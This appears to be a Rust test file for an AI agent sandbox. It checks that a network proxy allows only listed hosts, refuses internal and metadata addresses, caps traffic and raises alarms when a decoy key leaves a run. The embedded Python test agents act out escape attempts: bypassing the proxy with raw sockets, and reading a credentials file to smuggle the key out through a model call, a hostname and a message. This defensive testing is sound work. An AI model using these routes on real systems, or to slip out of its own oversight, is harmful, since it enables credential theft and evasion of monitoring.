//! The way to hosts an agent file allows.

use serde_json::json;

use crate::harness::{Agent, Job, Options, Stack, eventually};
use crate::isolation::{at_level, told};

/// Asks the proxy, and a host through it.
const TOOLS: &str = r#"
import http.client, json, os, socket, steward, urllib.parse
proxy = urllib.parse.urlparse(os.environ["HTTPS_PROXY"])
def ask(line):
    connection = socket.create_connection((proxy.hostname, proxy.port), 10)
    connection.sendall((line + "\r\n\r\n").encode())
    answer = b""
    while part := connection.recv(4096):
        answer += part
    return answer.decode()
def through(host, port):
    connection = http.client.HTTPConnection(proxy.hostname, proxy.port, timeout=10)
    connection.set_tunnel(host, port)
    try:
        connection.request("POST", "/v1/there", b"{}")
        return connection.getresponse().status
    except OSError as error:
        return str(error)
def fails(action):
    try:
        action()
        return "done"
    except OSError as error:
        return "failed"
"#;

/// This machine stands for a host of the internet.
fn reaches_loopback() -> Options {
    Options::default().set("NETWORK__GUARD", "loopback")
}

async fn only_what_is_allowed(level: &str) {
    let Some(stack) = at_level(level, reaches_loopback()).await else {
        return;
    };
    let port = stack.model.port();
    let program = format!(
        r#"{TOOLS}
steward.result(notes=json.dumps({{
    "allowed": through("LOCALHOST.", {port}),
    "by address": ask("CONNECT 127.0.0.1:{port} HTTP/1.1").split()[1],
    "another port": ask("CONNECT localhost:1 HTTP/1.1"),
    "another host": ask("CONNECT example.org:443 HTTP/1.1").split()[1],
    "plain": ask("GET http://localhost:{port}/ HTTP/1.1").split()[1],
    "nonsense": ask("CONNECT @@ HTTP/1.1").split()[1],
    "around it": fails(lambda: socket.create_connection(("127.0.0.1", {port}), 2)),
    "a name": fails(lambda: socket.getaddrinfo("example.org", 443)),
    "udp": fails(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM)),
    "gateway": http.client.HTTPConnection(*urllib.parse.urlparse(os.environ["OPENAI_BASE_URL"]).netloc.split(":")).request("GET", "/") is None,
}}))
"#
    );
    let agent = Agent::python(&program).with("network", json!({"allow": [format!("localhost:{port}")]}));
    let end = stack.run(&agent, Job::work()).await;
    let found: serde_json::Value = match &end.outcome {
        Some(rpc::v1::complete_request::Outcome::ResultJson(result)) => {
            let result: serde_json::Value = serde_json::from_str(result).unwrap();
            serde_json::from_str(result["notes"].as_str().unwrap()).unwrap()
        }
        other => panic!("{other:?}\n{}", end.log_tail),
    };
    assert_eq!(found["allowed"], 200);
    for (refused, status) in [
        ("by address", "403"),
        ("another host", "403"),
        ("plain", "405"),
        ("nonsense", "400"),
    ] {
        assert_eq!(found[refused], status, "{refused}");
    }
    let words = found["another port"].as_str().unwrap();
    assert!(words.contains("localhost:1 is not on the list"), "{words}");
    for closed in ["around it", "a name", "udp"] {
        assert_eq!(found[closed], "failed", "{closed}");
    }
    assert_eq!(found["gateway"], true);
    for told in [
        "refused (network): localhost:1 is not on the list",
        "refused (network): example.org:443 is not",
    ] {
        assert!(end.log_tail.contains(told), "{told}: {}", end.log_tail);
    }
    eventually("the connection is logged against the run", || {
        let log = stack.executor.log();
        let mut lines = log.lines().filter(|line| line.contains("a run's connection"));
        let named = |line: &str| line.contains(&format!("localhost:{port}")) && line.contains(&end.run_id);
        lines.any(named).then_some(())
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn in_namespaces_a_run_reaches_the_hosts_of_its_file_and_no_other() {
    only_what_is_allowed("namespaces").await;
}

#[tokio::test(flavor = "multi_thread")]
async fn at_level_landlock_it_reaches_no_other_either() {
    only_what_is_allowed("landlock").await;
}

#[tokio::test(flavor = "multi_thread")]
async fn an_allowed_name_that_points_inside_is_refused() {
    let stack = Stack::start().await;
    let port = stack.model.port();
    let places = [
        format!("localhost:{port}"),
        format!("127.0.0.1:{port}"),
        "169.254.169.254:80".to_owned(),
        format!("[::1]:{port}"),
    ];
    let program = format!(
        "{TOOLS}\nsteward.result(notes=json.dumps([ask('CONNECT ' + place + ' HTTP/1.1') for place in {places:?}]))"
    );
    let agent = Agent::python(&program).with("network", json!({"allow": places}));
    let found = told(&stack, &agent).await;
    for answer in found.as_array().unwrap() {
        let answer = answer.as_str().unwrap();
        assert!(
            answer.starts_with("HTTP/1.1 403") && answer.contains("no public address"),
            "{answer}"
        );
    }
    assert!(stack.model.calls().is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn without_allowed_hosts_there_is_no_proxy() {
    let stack = Stack::start().await;
    let program = r#"
import json, os, socket, steward
def fails(action):
    try:
        action()
        return False
    except OSError:
        return True
steward.result(notes=json.dumps([os.environ.get("HTTPS_PROXY"), fails(lambda: socket.create_connection(("127.0.0.1", 8086), 2))]))
"#;
    assert_eq!(told(&stack, &Agent::python(program)).await, json!([null, true]));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_run_exchanges_no_more_than_it_may() {
    let options = reaches_loopback().set("NETWORK__BYTES", "100000");
    let stack = Stack::with(options).await;
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let flood = async {
        use tokio::io::AsyncWriteExt as _;
        let (mut stream, _) = listener.accept().await.unwrap();
        while stream.write_all(&[7; 10_000]).await.is_ok() {}
    };
    let program = format!(
        r#"{TOOLS}
connection = socket.create_connection((proxy.hostname, proxy.port), 10)
connection.sendall(b"CONNECT localhost:{port} HTTP/1.1\r\n\r\n")
try:
    while connection.recv(65536):
        pass
except ConnectionError:
    pass
steward.result(notes=json.dumps(ask("CONNECT localhost:{port} HTTP/1.1").split()[1]))
"#
    );
    let agent = Agent::python(&program).with("network", json!({"allow": [format!("localhost:{port}")]}));
    let (found, ()) = tokio::join!(told(&stack, &agent), flood);
    assert_eq!(found, "403");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_decoy_key_that_leaves_raises_an_alarm_by_every_way() {
    let stack = Stack::with(reaches_loopback()).await;
    let program = format!(
        r#"{TOOLS}
import configparser, urllib.request
found = configparser.ConfigParser()
found.read(os.environ["HOME"] + "/.config/internal/credentials")
key = found["default"]["api_key"]
assert key == os.environ["INTERNAL_API_KEY"]
urllib.request.urlopen(urllib.request.Request(os.environ["OPENAI_BASE_URL"] + "/chat/completions", data=json.dumps({{"text": key}}).encode(), headers={{"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]}})).read()
ask("CONNECT " + key + ".example.org:443 HTTP/1.1")
steward.message("the key is " + key)
steward.result(notes="done")
"#
    );
    let agent = Agent::python(&program).with("network", json!({"allow": ["localhost:1"]}));
    let end = stack.run(&agent, Job::work()).await;
    for way in ["a model call", "the name of a host", "an event"] {
        let alarm = format!("ALARM: the decoy key laid out for this run was carried out by {way}");
        assert!(end.log_tail.contains(&alarm), "{way}: {}", end.log_tail);
    }
    let calm = stack
        .run(&Agent::python("import steward\nsteward.result(notes='n')"), Job::work())
        .await;
    assert!(!calm.log_tail.contains("ALARM"), "{}", calm.log_tail);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_credential_of_somebody_else_is_named_in_the_runs_log() {
    let stack = Stack::start().await;
    let program = r#"
import os, steward, urllib.error, urllib.request
for key in (os.environ["OPENAI_API_KEY"], "run-credential-of-another"):
    try:
        urllib.request.urlopen(urllib.request.Request(os.environ["OPENAI_BASE_URL"] + "/chat/completions", b"{}", {"Authorization": "Bearer " + key})).read()
    except urllib.error.HTTPError as error:
        assert error.code == 401
steward.result(notes="n")
"#;
    let end = stack.run(&Agent::python(program), Job::work()).await;
    assert_eq!(end.log_tail.matches("refused (gateway)").count(), 1, "{}", end.log_tail);
    assert!(
        !end.log_tail.contains("of-another"),
        "the credential itself is told: {}",
        end.log_tail
    );
}
